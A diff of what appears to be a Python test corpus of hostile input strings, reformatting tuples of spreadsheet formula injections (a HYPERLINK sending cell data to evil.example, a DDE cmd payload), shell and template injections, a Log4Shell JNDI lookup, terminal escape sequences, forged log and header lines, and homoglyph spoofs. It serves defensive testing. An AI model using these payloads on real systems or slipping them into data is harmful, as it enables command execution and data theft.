@@ -87,10 +87,10 @@ _SQL = (
 )  # fmt: skip
 
 _FORMULA = (
-    "=1+1", "=HYPERLINK(\"https://evil.example/?\"&A1)", "=cmd|' /C calc'!A0", "=IMPORTXML(A1, \"//a\")",
+    "=1+1", '=HYPERLINK("https://evil.example/?"&A1)', "=cmd|' /C calc'!A0", '=IMPORTXML(A1, "//a")',
     "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\uff1d1+1",
-    "\uff0b1", "\uff0d1", "\uff201", "'=1+1", "\"=1+1\"", ";=1+1", ",=1+1", "|=1+1", "%0A=1+1",
-    "=1+1\x00", "\x00=1+1", "\ufeff=1+1", "\u200b=1+1", "==1", "=-1", "+=1", "=\n1", "DDE(\"cmd\")",
+    "\uff0b1", "\uff0d1", "\uff201", "'=1+1", '"=1+1"', ";=1+1", ",=1+1", "|=1+1", "%0A=1+1",
+    "=1+1\x00", "\x00=1+1", "\ufeff=1+1", "\u200b=1+1", "==1", "=-1", "+=1", "=\n1", 'DDE("cmd")',
 )  # fmt: skip
 
 _PATHS = (
@@ -109,20 +109,24 @@ _SPELLING = (
     "20260601T063000.000000Z-0123456789ab.json.zst", "A" * 181, "=41" * 61, "\u00e9" * 61, "A" * 180,
 )  # fmt: skip
 
-_WINDOWS = tuple(
-    chain.from_iterable((name, f"{name}.txt") for name in ("CON", "PRN", "AUX", "NUL", "COM1", "LPT9", "con"))
-) + ("COM\u00b9", "CONIN$", "a:stream", "a::$DATA", "a?", "a|b", 'a"b', "a<b", "a>b", "desktop.ini")  # fmt: skip
+_WINDOWS = (
+    "CON", "PRN", "AUX", "NUL", "COM1", "LPT9", "con", "CON.txt", "nul.json", "aux.parquet", "COM\u00b9",
+    "CONIN$",
+    "a:stream", "a::$DATA", "a?", "a|b", 'a"b', "a<b", "a>b", "desktop.ini",
+)  # fmt: skip
 
 _TERMINAL = (
-    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
-    "\x1b]52;c;ZXZpbA==\x07", "\x1bP$q\"p\x1b\\", "\x1b[6n", "\x1b[?1049h", "\x1b#8", "\x1bc", "\x9b31m",
+    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07",
+    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
+    "\x1b]52;c;ZXZpbA==\x07", '\x1bP$q"p\x1b\\', "\x1b[6n", "\x1b[?1049h", "\x1b#8", "\x1bc", "\x9b31m",
     "\x9d0;t\x9c", "\x90q\x9c", "a\x08\x08b", "a\rb", "a\x0bb", "a\x0cb", "\x07", "\x0e", "\x0f", "\x7f",
     "\x1b[1A\x1b[2Kforged", "\x1b_Gf=100;AAAA\x1b\\", "\x1b]1337;File=:AA\x07", "\x85", "[bold red]x[/]",
     "[link=https://evil.example]x[/link]", "[/]", ":smile:", "\x1b", "\x1b[", "\x1b]",
 )  # fmt: skip
 
 _FORGED = (
-    "x\nerror: the lake is gone", "x\r\nwarning: forged", "x\rerror: forged", "x\n\nTraceback", "x\n2026-06-01",
+    "x\nerror: the lake is gone", "x\r\nwarning: forged", "x\rerror: forged", "x\n\nTraceback",
+    "x\n2026-06-01",
     "a\tb\tc", "a\u2028b", "a\u2029b", "a\x1cb", "a\x1db", "a\x1eb", "a\u0085b",
     'x", "forged": "y', "x\r\nSet-Cookie: a=b", "x\r\n\r\n<html>", "x\nX-Forged: 1",
 )  # fmt: skip
@@ -130,7 +134,8 @@ _FORGED = (
 _SHELL = (
     "$(id)", "`id`", "; id", "| id", "& id", "&& id", "|| id", "> out", "< /etc/passwd", "$HOME", "${IFS}",
     "'; id; '", '"; id; "', "\\", "\\\n", "!!", "*", "{a,b}", "~", "#", "a\nid\n", "$'\\x41'", "-e id", "%n",
-    "%s%s%s%s", "%x%x", "%1$s", "{0}", "{__class__}", "{0.__init__.__globals__}", "%(x)s", "#{7*7}", "{{7*7}}",
+    "%s%s%s%s", "%x%x", "%1$s", "{0}", "{__class__}", "{0.__init__.__globals__}", "%(x)s", "#{7*7}",
+    "{{7*7}}",
     "<%= 7*7 %>", "@@", "${jndi:ldap://evil.example/a}", "%c", "%99999d",
 )  # fmt: skip
 
@@ -150,7 +155,8 @@ _BIDI = (
 
 _UNSEEN = (
     "a\u200bb", "a\u200cb", "a\u200db", "a\u2060b", "a\ufeffb", "a\u00adb", "a\u034fb", "a\u180eb", "\u3164",
-    "\u115f", "\u1160", "\u2800", "\u00a0", "\u2003", "\u3000", " ", "  ", "\t", "a\u00a0b", "\ufffe", "\uffff",
+    "\u115f", "\u1160", "\u2800", "\u00a0", "\u2003", "\u3000", " ", "  ", "\t", "a\u00a0b", "\ufffe",
+    "\uffff",
     "\ufffd", "\u0000", "a\u0000b", "\u0000\u0000", "\ufdd0", "\U0001fffe", "\U000e0041", "\U000e0001",
     "a\ufe0f", "\ufe0e", "\u206a", "\u2061",
 )  # fmt: skip
@@ -158,7 +164,8 @@ _UNSEEN = (
 _SCRIPTS = (
     "e\u0301", "\u00e9", "\u1e9e", "\u00df", "\u0130", "\u0131", "\u01c5", "\ufb01", "\u212b", "\u2126",
     "Z" + "\u0337\u0318\u0321\u0322" * 40, "a" + "\u0300" * 500, "\ufdfa", "\ufdfa" * 100, "\u0958", "\u1100\u1161",
-    "\u6771\u4eac", "\U00020000", "\U0010ffff", "\U0001d54f", "\u2460", "\u00b2", "\u0663", "\uff11", "\u0e33",
+    "\u6771\u4eac", "\U00020000", "\U0010ffff", "\U0001d54f", "\u2460", "\u00b2", "\u0663", "\uff11",
+    "\u0e33",
     "p\u0430ypal", "\u0405potify", "\u0391pple", "\u13a0", "ChartL\u0430ke", "rn", "\u2170", "\u01c3",
     "\U0001f469\u200d\U0001f680", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
     "\U0001f3f4\U000e0067\U000e0062\U000e007f", "\U0001f1e9\U0001f1ea", "\u2764\ufe0f\u200d\U0001f525",
